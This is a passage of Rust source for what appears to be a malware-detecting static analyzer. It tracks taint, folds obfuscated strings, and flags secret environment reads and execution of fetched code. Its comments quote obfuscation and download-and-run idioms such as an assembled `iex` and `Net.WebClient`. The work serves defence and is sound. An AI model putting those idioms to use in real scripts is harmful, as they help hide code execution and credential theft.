                let mut v = Val::unknown("…");
                v.taint = left.taint.union(right.taint);
                v
            }
        }
    }

    fn bounded(&mut self, mut v: Val, span: (usize, usize)) -> Val {
        if v.text.len() > super::MAX_FOLD_BYTES {
            let mut cut = super::MAX_FOLD_BYTES;
            while !v.text.is_char_boundary(cut) {
                cut -= 1;
            }
            v.text.truncate(cut);
            v.exact = false;
            let _ = self.a.budget(usize::MAX, span.0);
        }
        v
    }

    fn string(&mut self, parts: &[Part], bytes: bool) -> Val {
        let mut v = Val::text("");
        v.bytes = bytes;
        for part in parts {
            match part {
                Part::Text(text) => v.text.push_str(text),
                Part::Hole(tokens) => {
                    let (inner, _) = self.expr(tokens, 0, 0);
                    v.text.push_str(&inner.text);
                    v.exact &= inner.exact;
                    v.taint = v.taint.union(inner.taint);
                }
            }
            if v.text.len() > super::MAX_FOLD_BYTES {
                v.exact = false;
                break;
            }
        }
        v
    }

    fn prefix(&mut self, t: &[Token], i: usize) -> (Val, usize) {
        let Some(token) = t.get(i) else {
            return (Val::unknown("…"), i);
        };
        let (mut v, mut j) = match &token.tok {
            Tok::Str { parts, bytes } => {
                let mut v = self.string(parts, *bytes);
                let mut j = i + 1;
                // Python's adjacent literals concatenate.
                while let Some(Token {
                    tok: Tok::Str { parts, bytes },
                    ..
                }) = t.get(j)
                {
                    let next = self.string(parts, *bytes);
                    v = concat(&v, &next);
                    j += 1;
                }
                let span = self.span(t, i, j);
                self.literal(&v, span);
                (v, j)
            }
            Tok::Num(n) => (number(*n), i + 1),
            Tok::Var(name) => {
                let span = (token.start, token.end);
                (self.ps_var(name, span), i + 1)
            }
            Tok::Param(p) if self.lang == Lang::PowerShell && p == "join" => {
                // The unary `-join`: the list's items run together.
                let (operand, next) = self.expr(t, i + 1, 11);
                let list = operand.list.clone().unwrap_or_else(|| vec![operand.clone()]);
                let mut v = join_vals(&list, "");
                v.taint = v.taint.union(operand.taint);
                if assembled(&list) {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                (v, next)
            }
            Tok::Param(p) => (Val::text(format!("-{p}")), i + 1),
            Tok::Ident(word) => match *word {
                "lambda" => {
                    // `lambda c: chr(c)`: kept as a function of one parameter.
                    let mut j = i + 1;
                    let param = ident(t.get(j)).map(str::to_string);
                    while j < t.len() && !punct(t.get(j), ":") {
                        j += 1;
                    }
                    let body_start = j + 1;
                    let (_, end) = self.expr(t, body_start, 1);
                    let mut v = Val::unknown("lambda");
                    v.name = Some(lambda_spec(t, param.unwrap_or_default(), body_start, end));
                    (v, end)
                }
                "not" | "await" | "new" | "typeof" | "void" | "yield" | "delete" => self.expr(t, i + 1, 11),
                "function" => {
                    // A function expression: its body is read as statements.
                    let mut j = i + 1;
                    while j < t.len() && !punct(t.get(j), "{") {
                        j += 1;
                    }
                    let end = close_of(t, j);
                    self.statements(&t[(j + 1).min(t.len())..end.min(t.len())]);
                    (Val::unknown("function"), (end + 1).min(t.len()))
                }
                "True" | "true" => (Val::text("true"), i + 1),
                "False" | "false" => (Val::text("false"), i + 1),
                "None" | "null" | "undefined" => (Val::text(""), i + 1),
                word => {
                    // An arrow function `x => expr`.
                    if punct(t.get(i + 1), "=>") {
                        return self.arrow(t, i, Some(word.to_string()), i + 2);
                    }
                    let v = self.lookup(word, t, i);
                    (v, i + 1)
                }
            },
            Tok::Punct("(") if self.lang == Lang::PowerShell => {
                // `(New-Object Net.WebClient)`, `(iwr $u)`: a command in parentheses.
                let close = close_of(t, i);
                let inner = &t[(i + 1).min(t.len())..close.min(t.len())];
                let v = self.ps_block_value(inner);
                (v, (close + 1).min(t.len()))
            }
            Tok::Punct("(") => {
                let close = close_of(t, i);
                if punct(t.get(close + 1), "=>") {
                    let param = ident(t.get(i + 1)).map(str::to_string);
                    return self.arrow(t, i, param, close + 2);
                }
                let items = self.items(t, i + 1, close);
                let v = if items.pos.len() == 1 && items.named.is_empty() {
                    items.pos.into_iter().next().unwrap_or_default()
                } else {
                    let mut v = Val::unknown("(…)");
                    v.taint = items.taint();
                    v.list = Some(items.pos);
                    v
                };
                (v, (close + 1).min(t.len()))
            }
            Tok::Punct("[") if self.lang == Lang::PowerShell && ident(t.get(i + 1)).is_some() => self.ps_type(t, i),
            Tok::Punct("[") => {
                let close = close_of(t, i);
                let items = self.items(t, i + 1, close);
                let mut v = Val::unknown("[…]");
                v.taint = items.taint();
                // `[...s]`: a string spread into its characters.
                v.list = Some(match items.pos.as_slice() {
                    [only] if punct(t.get(i + 1), "...") => spread(only),
                    _ => items.pos.into_iter().take(MAX_LIST).collect(),
                });
                (v, (close + 1).min(t.len()))
            }
            // A PowerShell script block (`$job = { … }`, `-ScriptBlock { … }`): what it
            // does is read where it is written, since whoever receives it runs it.
            Tok::Punct("{") if self.lang == Lang::PowerShell && !(i > 0 && punct(t.get(i - 1), "@")) => {
                let close = close_of(t, i);
                let inner = &t[(i + 1).min(t.len())..close.min(t.len())];
                self.statements(inner);
                let mut v = Val::unknown("{…}");
                v.name = Some("scriptblock-literal".into());
                (v, (close + 1).min(t.len()))
            }
            Tok::Punct("{") => {
                let close = close_of(t, i);
                let items = self.items(t, i + 1, close);
                let mut v = Val::unknown("{…}");
                v.taint = items.taint();
                if items
                    .all()
                    .any(|x| matches!(x.name.as_deref(), Some(n) if is_whole_environment(n)))
                {
                    // `{ env: process.env }`, `{**os.environ}`: the environment, gathered whole.
                    let span = self.span(t, i, close + 1);
                    v.taint = v.taint.union(self.whole_environment(span).taint);
                }
                let mut named = items.named;
                if self.lang == Lang::JavaScript {
                    // `{ method, body }`: shorthand properties are the variables' values.
                    let mut depth = 0usize;
                    for k in i + 1..close.min(t.len()) {
                        match &t[k].tok {
                            Tok::Punct("(" | "[" | "{") => depth += 1,
                            Tok::Punct(")" | "]" | "}") => depth = depth.saturating_sub(1),
                            Tok::Ident(word)
                                if depth == 0
                                    && (k == i + 1 || punct(t.get(k - 1), ","))
                                    && (k + 1 == close || punct(t.get(k + 1), ",")) =>
                            {
                                if let Some(value) = self.env.get(*word).cloned() {
                                    named.push((word.to_string(), value));
                                }
                            }
                            _ => {}
                        }
                    }
                }
                v.fields = Some(named);
                if !items.pos.is_empty() {
                    v.list = Some(items.pos);
                }
                (v, (close + 1).min(t.len()))
            }
            Tok::Punct("@")
                if self.lang == Lang::PowerShell && (punct(t.get(i + 1), "(") || punct(t.get(i + 1), "{")) =>
            {
                self.prefix(t, i + 1)
            }
            Tok::Punct("$") if self.lang == Lang::PowerShell && punct(t.get(i + 1), "(") => {
                let close = close_of(t, i + 1);
                let inner = &t[(i + 2).min(t.len())..close.min(t.len())];
                let v = self.ps_block_value(inner);
                (v, (close + 1).min(t.len()))
            }
            Tok::Punct("&") if self.lang == Lang::PowerShell => {
                // The call operator: `& $cmd args`, `& ([scriptblock]::Create($x))`.
                let (callee, next) = self.prefix(t, i + 1);
                let name = callee.text.to_ascii_lowercase();
                if callee.exact && matches!(name.as_str(), "iex" | "invoke-expression") && callee.taint.hidden() {
                    // `& ('ie'+'x') $code`: the name was assembled, and what it runs is
                    // the next argument.
                    let (code, after) = self.prefix(t, next);
                    let span = self.span(t, i, after);
                    let mut code = code;
                    code.taint = code.taint.union(Taint::of(Taint::COMPUTED, None));
                    exec(
                        self.a,
                        &code,
                        Lang::PowerShell,
                        span,
                        "& runs an assembled Invoke-Expression",
                    );
                    return (Val::unknown("…"), after);
                }
                if callee.taint.hidden()
                    || callee.taint.has(Taint::FETCHED)
                    || callee.name.as_deref() == Some("scriptblock")
                {
                    let span = self.span(t, i, next);
                    exec(self.a, &callee, Lang::PowerShell, span, "& runs it");
                }
                (Val::unknown("…"), next)
            }
            Tok::Punct("-")
            | Tok::Punct("+")
            | Tok::Punct("!")
            | Tok::Punct("~")
            | Tok::Punct("*")
            | Tok::Punct("**")
            | Tok::Punct("...") => {
                let (v, next) = self.expr(t, i + 1, 11);
                if punct(t.get(i), "-")
                    && let Some(n) = v.num
                {
                    return (number(-n), next);
                }
                (v, next)
            }
            _ => (Val::unknown("…"), i + 1),
        };
        // Postfix: members, calls, indexes.
        loop {
            match t.get(j).map(|x| &x.tok) {
                Some(Tok::Punct(".")) | Some(Tok::Punct("?.")) | Some(Tok::Punct("::")) => {
                    let Some(name) = ident(t.get(j + 1)) else { break };
                    if punct(t.get(j + 2), "(") {
                        let close = close_of(t, j + 2);
                        let args = self.items(t, j + 3, close);
                        let span = self.span(t, i, close + 1);
                        // `out.append(b)` in a loop: the list (a `bytearray`, an array)
                        // now holds what was added, and where it came from.
                        if j == i + 1
                            && matches!(name, "append" | "extend" | "push" | "insert" | "unshift")
                            && let Some(var) = ident(t.get(i))
                            && let Some(held) = self.env.get_mut(var)
                        {
                            let added = args.taint();
                            held.taint = held.taint.union(added);
                        }
                        v = self.method(v, name, args, span, t, i);
                        j = (close + 1).min(t.len());
                    } else {
                        let span = self.span(t, i, j + 2);
                        v = self.property(v, name, span);
                        j += 2;
                    }
                }
                Some(Tok::Punct("(")) => {
                    let close = close_of(t, j);
                    let args = self.items(t, j + 1, close);
                    let span = self.span(t, i, close + 1);
                    v = self.call(v, args, span, t, i);
                    j = (close + 1).min(t.len());
                }
                // A tagged template, ``tag`…` ``, calls its tag.
                Some(Tok::Str { .. })
                    if self.lang == Lang::JavaScript
                        && v.name.is_some()
                        && self.a.text.as_bytes().get(t[j].start) == Some(&b'`') =>
                {
                    let (template, next) = self.prefix(t, j);
                    let span = self.span(t, i, next);
                    let args = CallArgs {
                        pos: vec![template],
                        named: Vec::new(),
                    };
                    v = self.call(v, args, span, t, i);
                    j = next.max(j + 1);
                }
                Some(Tok::Punct("[")) => {
                    let close = close_of(t, j);
                    let span = self.span(t, i, close + 1);
                    v = self.index(v, t, j + 1, close, span);
                    j = (close + 1).min(t.len());
                }
                _ => break,
            }
        }
        (v, j)
    }

    fn arrow(&mut self, t: &[Token], i: usize, param: Option<String>, body: usize) -> (Val, usize) {
        if punct(t.get(body), "{") {
            let end = close_of(t, body);
            let params = if punct(t.get(i), "(") {
                parameters(t, i)
            } else {
                param.clone().into_iter().collect()
            };
            let name = format!("fn:=>{}", t.get(i).map_or(0, |x| x.start));
            let mut v = self.function(&name, &params, &t[(body + 1).min(t.len())..end.min(t.len())]);
            // `{ return expr }` bodies apply like lambdas too (`.map(c => { return … })`).
            if ident(t.get(body + 1)) == Some("return") {
                v.fields = Some(vec![(
                    "lambda".into(),
                    Val::text(lambda_spec(t, param.unwrap_or_default(), body + 2, end)),
                )]);
            }
            return (v, (end + 1).min(t.len()));
        }
        let (_, end) = self.expr(t, body, 1);
        let mut v = Val::unknown("=>");
        v.name = Some(lambda_spec(t, param.unwrap_or_default(), body, end));
        (v, end)
    }

    /// `def NAME(…):` or `function NAME(…) {…}`: the body read once, as a function.
    fn definition(&mut self, t: &[Token], i: usize, name: &str) -> usize {
        let open = (i + 2..t.len().min(i + 4))
            .find(|j| punct(t.get(*j), "("))
            .unwrap_or(i + 2);
        let params = if punct(t.get(open), "(") {
            parameters(t, open)
        } else {
            Vec::new()
        };
        let after = if punct(t.get(open), "(") {
            close_of(t, open) + 1
        } else {
            open
        };
        let (body_start, body_end) = if self.lang == Lang::Python {
            let mut colon = after;
            while colon < t.len() && !punct(t.get(colon), ":") && !matches!(t[colon].tok, Tok::Newline) {
                colon += 1;
            }
            let indent = self.indent_of(t[i].start);
            (colon + 1, self.python_block_end(t, colon + 1, indent))
        } else {
            let mut brace = after;
            while brace < t.len() && !punct(t.get(brace), "{") && brace < after + 8 {
                brace += 1;
            }
            if !punct(t.get(brace), "{") {
                return after;
            }
            (brace + 1, close_of(t, brace))
        };
        let body = &t[body_start.min(t.len())..body_end.min(t.len())];
        let value = self.function(&format!("fn:{name}"), &params, body);
        self.env.insert(name.to_string(), value);
        (body_end + usize::from(self.lang != Lang::Python)).max(i + 1)
    }

    /// The indentation (spaces and tabs) of the line holding `offset`.
    fn indent_of(&self, offset: usize) -> usize {
        let text = self.a.text;
        let offset = offset.min(text.len());
        let start = text[..offset].rfind('\n').map_or(0, |n| n + 1);
        text[start..].bytes().take_while(|b| *b == b' ' || *b == b'\t').count()
    }

    /// Where an indented Python block that starts at token `from` ends: the first
    /// line indented no deeper than `indent` (a one-line block ends with its line).
    fn python_block_end(&self, t: &[Token], from: usize, indent: usize) -> usize {
        if !matches!(t.get(from).map(|x| &x.tok), Some(Tok::Newline)) {
            return (from..t.len())
                .find(|j| matches!(t[*j].tok, Tok::Newline))
                .unwrap_or(t.len());
        }
        let mut j = from;
        while j < t.len() {
            if matches!(t[j].tok, Tok::Newline)
                && let Some(next) = t.get(j + 1)
                && !matches!(next.tok, Tok::Newline)
                && self.indent_of(next.start) <= indent
            {
                return j + 1;
            }
            j += 1;
        }
        t.len()
    }

    /// Reads a function's body with its parameters marked, and keeps what it returns
    /// and where its parameters go under `name`.
    fn function(&mut self, name: &str, params: &[String], body: &[Token]) -> Val {
        if self.frames.len() >= MAX_FUNCTION_DEPTH || self.depth >= MAX_EXPR_DEPTH {
            return Val::unknown(name.to_string());
        }
        let saved = self.env.clone();
        for (index, param) in params.iter().enumerate() {
            self.env.insert(
                param.clone(),
                Val::unknown(param.clone()).tainted(Taint::of(Taint::param(index), None)),
            );
        }
        let sinks_before = self.a.out.param_sinks.len();
        self.frames.push(Vec::new());
        self.depth += 1;
        self.statements(body);
        self.depth -= 1;
        let returns = self.frames.pop().unwrap_or_default();
        let sinks: Vec<super::ParamSink> = self
            .a
            .out
            .param_sinks
            .drain(sinks_before.min(self.a.out.param_sinks.len())..)
            .collect();
        // Nested functions keep what they saw of an outer parameter for the outer one.
        if !self.frames.is_empty() {
            self.a.out.param_sinks.extend(sinks.iter().cloned());
        }
        // Assignments inside the function stay inside; the functions it defines stay.
        self.env = saved;
        let mut value = Val::named(name.to_string());
        value.taint = returns.iter().fold(Taint::default(), |t, r| t.union(r.taint));
        let inline = single_return(body).map(|(start, end)| (params.to_vec(), start, end));
        self.functions
            .insert(name.to_string(), Function { returns, sinks, inline });
        value
    }

    /// A call of a one-`return` function with arguments all known: its expression read
    /// with the parameters bound to them. `None` when the call is not of that kind.
    fn inline_call(&mut self, function: &Function, args: &CallArgs) -> Option<Val> {
        let (params, start, end) = function.inline.as_ref()?;
        if params.len() != args.pos.len()
            || !args.named.is_empty()
            // A list literal of known items is known (`_cls([14, 18])`).
            || args
                .pos
                .iter()
                .any(|a| !a.exact && !a.list.as_ref().is_some_and(|l| l.iter().all(|x| x.exact)))
            || self.depth + 4 >= MAX_EXPR_DEPTH
        {
            return None;
        }
        let text: &str = self.a.text;
        let source = text.get(*start..*end)?;
        let tokens: Vec<Token> = lex::lex_from(source, self.lang, *start).tokens;
        let saved: Vec<(String, Option<Val>)> = params
            .iter()
            .zip(&args.pos)
            .map(|(param, arg)| (param.clone(), self.env.insert(param.clone(), arg.clone())))
            .collect();
        self.depth += 4;
        let (value, _) = self.expr(&tokens, 0, 1);
        self.depth -= 4;
        for (param, old) in saved {
            match old {
                Some(old) => self.env.insert(param, old),
                None => self.env.remove(&param),
            };
        }
        (!value.text.is_empty() && !value.text.contains(['…', '‹'])).then_some(value)
    }

    /// A call of a function defined in the unit: its returns, with each parameter's
    /// taint replaced by the argument's, and its parameters' sinks applied to the
    /// arguments.
    fn apply_function(&mut self, function: &Function, args: &CallArgs, span: (usize, usize)) -> Val {
        let arg_taint = |bits: u32| -> Taint {
            let mut taint = Taint::default();
            for (index, arg) in args.pos.iter().enumerate() {
                if bits & Taint::param(index) != 0 {
                    taint = taint.union(arg.taint);
                }
            }
            taint
        };
        for sink in &function.sinks {
            for (index, arg) in args.pos.iter().enumerate() {
                if sink.params & Taint::param(index) == 0 {
                    continue;
                }
                match &sink.kind {
                    super::SinkKind::Egress { egress, host, header } => {
                        flow(self.a, arg, *egress, host, *header, span);
                    }
                    super::SinkKind::Exec(lang) => {
                        if arg.taint.hidden() || arg.taint.has(Taint::FETCHED | Taint::PARAMS) {
                            exec(self.a, arg, *lang, span, "passed to a function that runs it");
                        } else if *lang == self.lang && *lang != Lang::Shell {
                            // Code run in process (`exec`, `eval`) that another call
                            // returned: what a helper's `exec(code)` would show at once.
                            exec_in_process(self.a, arg, *lang, span, "passed to a function that runs it");
                        }
                    }
                }
            }
        }
        let mut out = match function.returns.first() {
            Some(first) => first.clone(),
            None => Val::unknown("…"),
        };
        let mut taint = Taint::default();
        for r in &function.returns {
            let own = Taint::of(r.taint.bits & !Taint::PARAMS, r.taint.origin);
            taint = taint.union(own).union(arg_taint(r.taint.bits & Taint::PARAMS));
        }
        out.taint = taint;
        if function.returns.len() > 1 {
            out.list = Some(function.returns.clone());
        }
        // A function that returns a function (`return getattr(os, name)`) returns
        // something callable: its name goes with it.
        let hidden = out.taint.hidden();
        out.name = out.name.filter(|n| {
            n == "path" || n == "response" || n.starts_with("file") || n.starts_with("fn:") || hidden && n.contains('.')
        });
        out
    }

    /// Applies a `lambda:…` function (see `lambda_spec`) to `arg`. Its tokens are
    /// `t`'s when it was made in the slice being read; otherwise (a helper defined at
    /// the top, called in a function's body) its text is lexed again.
    fn apply(&mut self, function: &Val, arg: Val, t: &[Token]) -> Option<Val> {
        let from_fields = field(function, "lambda").map(|l| l.text.clone());
        let name = from_fields.or_else(|| function.name.clone())?;
        let spec = name.strip_prefix("lambda:")?;
        let mut parts = spec.split(':');
        let param = parts.next()?.to_string();
        let start: usize = parts.next()?.parse().ok()?;
        let end: usize = parts.next()?.parse().ok()?;
        let byte_start: usize = parts.next()?.parse().ok()?;
        let byte_end: usize = parts.next()?.parse().ok()?;
        if start >= end {
            return None;
        }
        let same_slice = end <= t.len() && t.get(start).is_some_and(|x| x.start == byte_start);
        let relexed: Vec<Token>;
        let (tokens, from, to) = if same_slice {
            (t, start, end)
        } else {
            if self.depth + 4 >= MAX_EXPR_DEPTH {
                return None;
            }
            let source = self.a.text.get(byte_start..byte_end)?;
            // Each reading lexes the body again: bounded per unit, so a large body
            // applied over a long list stops being read rather than stalling.
            self.relexed = self.relexed.saturating_add(source.len());
            if self.relexed > MAX_RELEXED_BYTES {
                return None;
            }
            // Newlines inside the body's brackets were not statements where it was
            // written; read again on their own they would end the expression.
            relexed = lex::lex_from(source, self.lang, byte_start)
                .tokens
                .into_iter()
                .filter(|token| !matches!(token.tok, Tok::Newline))
                .collect();
            let n = relexed.len();
            (&relexed[..], 0, n)
        };
        let saved = self.env.insert(param.clone(), arg);
        self.depth += 4;
        let (v, _) = self.expr(&tokens[..to], from, 1);
        self.depth -= 4;
        match saved {
            Some(old) => self.env.insert(param, old),
            None => self.env.remove(&param),
        };
        Some(v)
    }

    /// Arguments or elements between `from` and `to`: positional, and `name=value`
    /// (Python keywords), `name: value` (object literals), `-Name value` (PowerShell).
    fn items(&mut self, t: &[Token], from: usize, to: usize) -> CallArgs {
        let mut args = CallArgs::default();
        let end = to.min(t.len());
        let mut j = from;
        while j < end {
            if matches!(t[j].tok, Tok::Newline) || punct(t.get(j), ",") || punct(t.get(j), ";") {
                j += 1;
                continue;
            }
            // `name=value` / `name: value` / `'name': value`.
            let key = match &t[j].tok {
                Tok::Ident(w) if punct(t.get(j + 1), "=") && self.lang == Lang::Python => Some((w.to_string(), j + 2)),
                Tok::Ident(w) if punct(t.get(j + 1), ":") => Some((w.to_string(), j + 2)),
                Tok::Str { parts, .. } if punct(t.get(j + 1), ":") => Some((parts_text(parts), j + 2)),
                Tok::Str { parts, .. } if punct(t.get(j + 1), "=") && self.lang == Lang::PowerShell => {
                    Some((parts_text(parts), j + 2))
                }
                Tok::Ident(w) if punct(t.get(j + 1), "=") && self.lang == Lang::PowerShell => {
                    Some((w.to_string(), j + 2))
                }
                Tok::Param(p) if self.lang == Lang::PowerShell => Some((p.clone(), j + 1)),
                Tok::Num(n) if punct(t.get(j + 1), ":") => Some((number(*n).text, j + 2)),
                _ => None,
            };
            if let Some((name, value_at)) = key {
                if value_at >= end || punct(t.get(value_at), ",") {
                    args.named.push((name, Val::text("true")));
                    j = value_at;
                    continue;
                }
                let (v, next) = self.expr(&t[..end], value_at, 1);
                args.named.push((name, v));
                j = next.max(value_at + 1);
                continue;
            }
            // Python generator `f(x) for x in xs`, comprehension `[f(x) for x in xs]`.
            let (v, next) = self.expr(&t[..end], j, 1);
            if ident(t.get(next)) == Some("for") && self.lang == Lang::Python {
                let (mapped, after) = self.comprehension(t, j, next, end);
                args.pos.push(mapped);
                j = after;
                continue;
            }
            args.pos.push(v);
            j = next.max(j + 1);
        }
        args
    }

    /// `EXPR for NAME in ITER [if …]`: the list of EXPR with NAME bound to each item.
    fn comprehension(&mut self, t: &[Token], expr_at: usize, for_at: usize, end: usize) -> (Val, usize) {
        // `for x in`, `for k, v in`, `for (k, v) in`.
        let mut names: Vec<String> = Vec::new();
        let mut j = for_at + 1;
        while j < end && ident(t.get(j)) != Some("in") {
            match ident(t.get(j)) {
                Some(w) => names.push(w.to_string()),
                None if punct(t.get(j), ",") || punct(t.get(j), "(") || punct(t.get(j), ")") => {}
                None => return (Val::unknown("…"), end),
            }
            j += 1;
        }
        if names.is_empty() || ident(t.get(j)) != Some("in") {
            return (Val::unknown("…"), end);
        }
        let (iterable, after) = self.expr(&t[..end], j + 1, 1);
        let mut after = after;
        if ident(t.get(after)) == Some("if") {
            let (_, next) = self.expr(&t[..end], after + 1, 1);
            after = next;
        }
        let known = iterable.list.is_some() || iterable.exact;
        let items: Vec<Val> = match (&iterable.list, iterable.exact) {
            (Some(list), _) => list.clone(),
            (None, true) => iterable.text.chars().map(|c| Val::text(c.to_string())).collect(),
            _ => Vec::new(),
        };
        if !known {
            // Items not known (`range(0, len(px), 3)`): the expression read once, each
            // name standing for any item, so what it carries is kept (`px[i:i + 3]`).
            let saved: Vec<(String, Option<Val>)> = names
                .iter()
                .map(|n| {
                    let any = Val::unknown(n.clone()).tainted(iterable.taint);
                    (n.clone(), self.env.insert(n.clone(), any))
                })
                .collect();
            let (each, _) = self.expr(&t[..for_at], expr_at, 1);
            for (name, old) in saved {
                match old {
                    Some(old) => self.env.insert(name, old),
                    None => self.env.remove(&name),
                };
            }
            let mut v = Val::unknown("[…]");
            v.taint = iterable.taint.union(each.taint);
            return (v, after);
        }
        let mut out = Vec::with_capacity(items.len().min(MAX_LIST));
        let saved: Vec<(String, Option<Val>)> = names.iter().map(|n| (n.clone(), self.env.remove(n))).collect();
        for item in items.into_iter().take(MAX_LIST) {
            if let [name] = names.as_slice() {
                self.env.insert(name.clone(), item);
            } else {
                let parts = item.list.clone().unwrap_or_default();
                for (k, name) in names.iter().enumerate() {
                    self.env.insert(name.clone(), parts.get(k).cloned().unwrap_or_default());
                }
            }
            let (v, _) = self.expr(&t[..for_at], expr_at, 1);
            out.push(v);
        }
        for (name, old) in saved {
            match old {
                Some(old) => self.env.insert(name, old),
                None => self.env.remove(&name),
            };
        }
        let mut v = Val::unknown("[…]");
        v.taint = iterable.taint;
        v.list = Some(out);
        (v, after)
    }

    fn index(&mut self, v: Val, t: &[Token], from: usize, to: usize, span: (usize, usize)) -> Val {
        // `[::-1]` reverses.
        let inner: Vec<&Tok> = t[from.min(t.len())..to.min(t.len())].iter().map(|x| &x.tok).collect();
        if matches!(inner.as_slice(), [Tok::Punct(":"), Tok::Punct(":"), Tok::Punct("-"), Tok::Num(n)] if *n == 1.0)
            || matches!(inner.as_slice(), [Tok::Punct("::"), Tok::Punct("-"), Tok::Num(n)] if *n == 1.0)
        {
            if let Some(list) = &v.list {
                let mut out = v.clone();
                out.list = Some(list.iter().rev().cloned().collect());
                out.taint = out.taint.union(Taint::of(Taint::COMPUTED, None));
                return out;
            }
            let mut out = Val::text(v.text.chars().rev().collect::<String>());
            out.exact = v.exact;
            out.bytes = v.bytes;
            out.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
            self.a.derive(&out.text.clone(), "reversed", span.0);
            return out;
        }
        let items = self.items(t, from, to);
        let key = items.pos.first().cloned().unwrap_or_default();
        if let Some(name) = &v.name {
            if is_whole_environment(name) {
                return self.env_var(&key.text, span);
            }
            if name.ends_with("globals") || name.ends_with("__dict__") || name.ends_with("vars") || name == "builtins" {
                let mut out = Val::named(format!("builtins.{}", key.text)).tainted(key.taint);
                if key.taint.hidden() {
                    out.taint = out.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                return out;
            }
        }
        if let Some(f) = field(&v, &key.text) {
            return f.clone();
        }
        // `globalThis['ev' + 'al']`, `window[name]`, `module[key]`: a member by name.
        if let Some(name) = &v.name
            && key.exact
            && !key.text.is_empty()
            && key.num.is_none()
            && !name.starts_with("lambda:")
        {
            let mut out = Val::named(format!("{name}.{}", key.text)).tainted(v.taint);
            if key.taint.hidden() || key.name.is_some() {
                out.taint = out.taint.union(Taint::of(Taint::COMPUTED, None));
            }
            return out;
        }
        if let (Some(list), Some(n)) = (&v.list, key.num)
            && let Some(item) = position_in(list.len(), n).and_then(|i| list.get(i))
        {
            return item.clone();
        }
        // A known string's characters by position: `s[3]`, and PowerShell's
        // `$s[4,15,25]`, the letters an obfuscator picks out of a fixed value.
        if v.list.is_none() && v.exact && !v.bytes && !items.pos.is_empty() && items.pos.iter().all(|k| k.num.is_some())
        {
            let chars: Vec<char> = v.text.chars().collect();
            let picked: Option<Vec<Val>> = items
                .pos
                .iter()
                .map(|k| {
                    position_in(chars.len(), k.num.unwrap_or_default())
                        .and_then(|at| chars.get(at))
                        .map(|c| Val::text(c.to_string()))
                })
                .collect();
            if let Some(mut picked) = picked {
                if picked.len() == 1 {
                    let mut one = picked.remove(0);
                    one.taint = v.taint;
                    return one;
                }
                let mut out = Val::unknown("…[…]");
                out.list = Some(picked);
                out.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                return out;
            }
        }
        let mut out = Val::unknown("…[…]");
        out.taint = v.taint;
        out
    }

    /// A named credential from the environment: evidence, and a value carrying it.
    fn env_var(&mut self, name: &str, span: (usize, usize)) -> Val {
        let upper = name.to_ascii_uppercase();
        if matches!(upper.as_str(), "HOME" | "USERPROFILE") {
            return Val::text("~");
        }
        if is_secret_env(&upper) {
            let origin = self.a.emit("secret-env", span, upper.clone(), None);
            let mut v = Val::unknown(format!("${upper}")).tainted(Taint::of(Taint::SECRET_ENV, origin));
            v.name = Some(upper);
            return v;
        }
        Val::unknown(format!("${upper}"))
    }

    /// [`Self::env_var`], or the call's default when the variable is not a secret:
    /// unset, the default is what the script uses (an index or a host written as the
    /// fallback is the one it reaches).
    fn env_var_or_default(&mut self, name: &str, default: Option<&Val>, span: (usize, usize)) -> Val {
        let value = self.env_var(name, span);
        match default {
            Some(default)
                if !value.taint.has(Taint::SECRET | Taint::SECRET_ENV) && default.exact && !default.text.is_empty() =>
            {
                default.clone()
            }
            _ => value,
        }
    }

    fn property(&mut self, v: Val, name: &str, span: (usize, usize)) -> Val {
        let full = v.name.as_deref().map(|n| format!("{n}.{name}").to_ascii_lowercase());
        if let Some(full) = &full {
            if let Some(var) = full.strip_prefix("process.env.") {
                return self.env_var(var, span);
            }
            if full == "os.environ" || full == "process.env" {
                return Val::named(full.clone());
            }
            // The interpreter running the script (`[sys.executable, "-m", "pip", …]`).
            if full == "sys.executable" {
                return Val::text("python3");
            }
        }
        if name == "length" {
            return number(v.list.as_ref().map_or(v.text.chars().count(), Vec::len) as f64);
        }
        self.member(&v, name)
    }

    fn ps_type(&mut self, t: &[Token], i: usize) -> (Val, usize) {
        // `[Type]`, `[Type[]]`, then `::Member`, or a cast of what follows.
        let close = close_of(t, i);
        let name: String = t[(i + 1).min(t.len())..close.min(t.len())]
            .iter()
            .filter_map(|x| match &x.tok {
                Tok::Ident(w) => Some(w.to_ascii_lowercase()),
                Tok::Punct(".") => Some(".".into()),
                Tok::Punct("[") => Some("[".into()),
                Tok::Punct("]") => Some("]".into()),
                _ => None,
            })
            .collect();
        let name = name.trim_start_matches("system.").to_string();
        let after = (close + 1).min(t.len());
        if punct(t.get(after), "::") {
            return (Val::named(format!("type:{name}")), after);
        }
        // A cast: `[char]99`, `[char[]](99,117)`, `[string]$x`.
        let (operand, next) = self.expr(t, after, 11);
        let v = match name.as_str() {
            "char" => match num(&operand) {
                Some(n) => {
                    let mut v = Val::text(char::from_u32(n as u32).map(String::from).unwrap_or_default());
                    v.taint = Taint::of(Taint::COMPUTED, None);
                    v
                }
                None => operand,
            },
            "char[]" => {
                let list: Vec<Val> = operand
                    .list
                    .clone()
                    .unwrap_or_default()
                    .iter()
                    .map(|item| match num(item) {
                        Some(n) => Val::text(char::from_u32(n as u32).map(String::from).unwrap_or_default()),
                        None => item.clone(),
                    })
                    .collect();
                let mut v = Val::unknown("[char[]]");
                v.list = Some(list);
                v.taint = operand.taint.union(Taint::of(Taint::COMPUTED, None));
                v
            }
            "scriptblock" => {
                let mut v = operand;
                v.name = Some("scriptblock".into());
                v
            }
            _ => operand,
        };
        (v, next)
    }

    fn ps_block_value(&mut self, tokens: &[Token]) -> Val {
        if let Some(word) = ident(tokens.first())
            && is_command_word(word)
        {
            return self.ps_pipeline(tokens, 0).0;
        }
        let (v, next) = self.expr(tokens, 0, 0);
        if punct(tokens.get(next), "|") {
            return self.ps_pipeline_from(tokens, next, v).0;
        }
        if punct(tokens.get(next), ",") {
            // `(105, 101, 120)`: an array.
            let items = self.items(tokens, 0, tokens.len());
            let mut list = Val::unknown("(…)");
            list.taint = items.taint();
            list.list = Some(items.pos);
            return list;
        }
        v
    }

    /// A PowerShell pipeline from a command at `i`.
    fn ps_pipeline(&mut self, t: &[Token], i: usize) -> (Val, usize) {
        let (v, next) = self.ps_command(t, i, None);
        if punct(t.get(next), "|") {
            return self.ps_pipeline_from(t, next, v);
        }
        (v, next)
    }

